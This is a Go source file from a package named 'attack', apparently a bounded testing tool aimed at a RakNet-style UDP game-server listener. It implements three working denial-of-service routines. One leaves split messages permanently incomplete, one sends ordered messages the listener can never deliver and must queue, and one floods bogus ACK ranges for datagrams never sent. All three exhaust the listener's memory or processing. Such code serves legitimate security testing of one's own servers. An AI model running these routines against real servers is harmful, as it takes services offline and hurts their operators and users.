package attack

import (
	"context"
	"time"
)

// Bounds of the connected attacks.
const (
	// MaxHoldBytes bounds what one call of OpenSplits or OrderedAhead
	// sends.
	MaxHoldBytes = 256 << 20
	// maxOrderedAhead is the most messages OrderedAhead sends: the
	// listener tracks 2^16 reliable indexes ahead.
	maxOrderedAhead = 60000
	// maxSplitID is the split IDs a u16 names.
	maxSplitID = 1 << 16
)

// OpenSplits opens messages split messages of parts+1 fragments each and
// sends every fragment but the last, so none ever completes and the
// listener holds all of them until its reassembly timeout. Fragments are
// Reliable (not ordered), each as large as a datagram carries, paced by
// DefaultWindow. It returns what it sent, bounded by MaxHoldBytes, and
// ErrUnacknowledged if the listener stopped acknowledging.
func (c *Client) OpenSplits(ctx context.Context, messages, parts int) (Counts, error) {
	var sent Counts
	payload := make([]byte, c.MaxPayload(Reliable, true))
	for i := range payload {
		payload[i] = byte(i)
	}
	for m := 0; m < messages && m < maxSplitID; m++ {
		c.mu.Lock()
		id := c.splitID
		c.splitID++
		c.mu.Unlock()
		for p := range parts {
			if sent.Bytes+len(payload) > MaxHoldBytes {
				return sent, nil
			}
			if err := c.pace(ctx, DefaultWindow); err != nil {
				return sent, err
			}
			c.mu.Lock()
			c.sendLocked(Frame{
				Reliability: Reliable, ReliableIndex: c.nextReliable(),
				SplitCount: uint32(parts + 1), SplitID: id, SplitIndex: uint32(p), Payload: payload,
			})
			c.mu.Unlock()
			sent.add(len(payload))
		}
	}
	return sent, nil
}

// OrderedAhead sends messages ReliableOrdered messages on channel 0 whose
// order indexes start gap (at least 1) past the one the listener expects
// next, so none can be delivered and the listener queues them all. The
// expected message is never sent. Each message is as large as a datagram
// carries; sending is paced by DefaultWindow and bounded by MaxHoldBytes.
// It returns ErrUnacknowledged if the listener stopped acknowledging.
func (c *Client) OrderedAhead(ctx context.Context, messages, gap int) (Counts, error) {
	var sent Counts
	gap = max(gap, 1)
	payload := make([]byte, c.MaxPayload(ReliableOrdered, false))
	payload[0] = IDGamePacket
	c.mu.Lock()
	base := c.order
	c.mu.Unlock()
	for i := 0; i < messages && i < maxOrderedAhead; i++ {
		if sent.Bytes+len(payload) > MaxHoldBytes {
			break
		}
		if err := c.pace(ctx, DefaultWindow); err != nil {
			return sent, err
		}
		c.mu.Lock()
		c.sendLocked(Frame{
			Reliability: ReliableOrdered, ReliableIndex: c.nextReliable(),
			OrderIndex: (base + uint32(gap) + uint32(i)) & 0xffffff, Payload: payload,
		})
		c.mu.Unlock()
		sent.add(len(payload))
	}
	return sent, nil
}

// AckFlood sends ACK datagrams of records range records each (at most
// MaxAckRecords; 4,096 make 28,675 bytes) at rate datagrams per second
// (0: as fast as the socket takes them) for d or count datagrams,
// whichever ends first (d at most MaxDuration). The ranges are disjoint
// and sorted, sixteen numbers each from 0 up, naming datagrams the
// listener never sent.
func (c *Client) AckFlood(ctx context.Context, records, rate, count int, d time.Duration) (Counts, error) {
	records = min(max(records, 1), MaxAckRecords)
	ranges := make([]AckRange, records)
	for i := range ranges {
		ranges[i] = AckRange{uint32(i) * 16, uint32(i)*16 + 15}
	}
	b := AppendAck(nil, false, ranges...)
	var sent Counts
	start := time.Now()
	stop := start.Add(min(d, MaxDuration))
	count = min(count, MaxCount)
	for sent.Datagrams < count {
		now := time.Now()
		if !now.Before(stop) {
			break
		}
		if err := ctx.Err(); err != nil {
			return sent, err
		}
		if rate > 0 && sent.Datagrams >= int(float64(rate)*now.Sub(start).Seconds())+1 {
			time.Sleep(time.Millisecond)
			continue
		}
		if err := c.WriteRaw(b); err != nil {
			select {
			case <-c.done:
				return sent, err
			default:
				continue
			}
		}
		sent.add(len(b))
	}
	return sent, nil
}
